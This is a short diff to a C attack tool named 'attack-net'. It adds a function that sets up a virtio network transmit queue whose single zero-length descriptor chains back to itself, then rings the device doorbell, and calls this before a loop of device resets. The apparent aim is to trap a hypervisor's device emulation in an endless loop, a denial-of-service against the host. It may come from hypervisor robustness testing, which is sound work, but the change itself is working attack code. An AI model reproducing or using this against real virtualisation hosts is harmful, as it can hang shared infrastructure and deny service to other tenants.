@@ -54,6 +54,9 @@
 #define BELL 0x300
 #define VECTORS 0x800
 
+/* The queue of what the cell sends. */
+#define TRANSMIT 1
+
 /* Linux, arch/x86/include/asm/irq_vectors.h: the same in all of its versions here. */
 #define RESCHEDULE 0xfd
 
@@ -235,6 +238,31 @@ static void set_up_vectors(void)
 	}
 }
 
+/* A queue of which all is right, but that its descriptor of no bytes leads to itself. */
+static void endless(void)
+{
+	const uint64_t descriptor[] = { place + FRAME, 1ULL << 32 };
+	const uint16_t available[] = { 0, 1, 0 };
+
+	set8(STATUS, 0);
+	set8(STATUS, 3);
+	set32(FEATURE_SELECT, 0);
+	set32(FEATURE, 0);
+	set32(FEATURE_SELECT, 1);
+	set32(FEATURE, 1);
+	set8(STATUS, 11);
+	memcpy(memory, descriptor, sizeof(descriptor));
+	memcpy(memory + PAGE, available, sizeof(available));
+	set16(QUEUE, TRANSMIT);
+	set16(QUEUE_SIZE, 4);
+	set64(QUEUE_PARTS, place);
+	set64(QUEUE_PARTS + 8, place + PAGE);
+	set64(QUEUE_PARTS + 16, place + 2 * PAGE);
+	set16(QUEUE_ENABLE, 1);
+	set8(STATUS, 15);
+	set16(BELL, TRANSMIT);
+}
+
 static void once(void)
 {
 	set8(STATUS, 0);
@@ -269,6 +297,7 @@ int main(int argc, char **argv)
 	find_memory();
 	find_end();
 	find_registers(argc > 2 ? atoi(argv[2]) : 0);
+	endless();
 	for (; time(NULL) < end; resets++)
 		once();
 	printf("attack-net: done, %lu resets\n", resets);
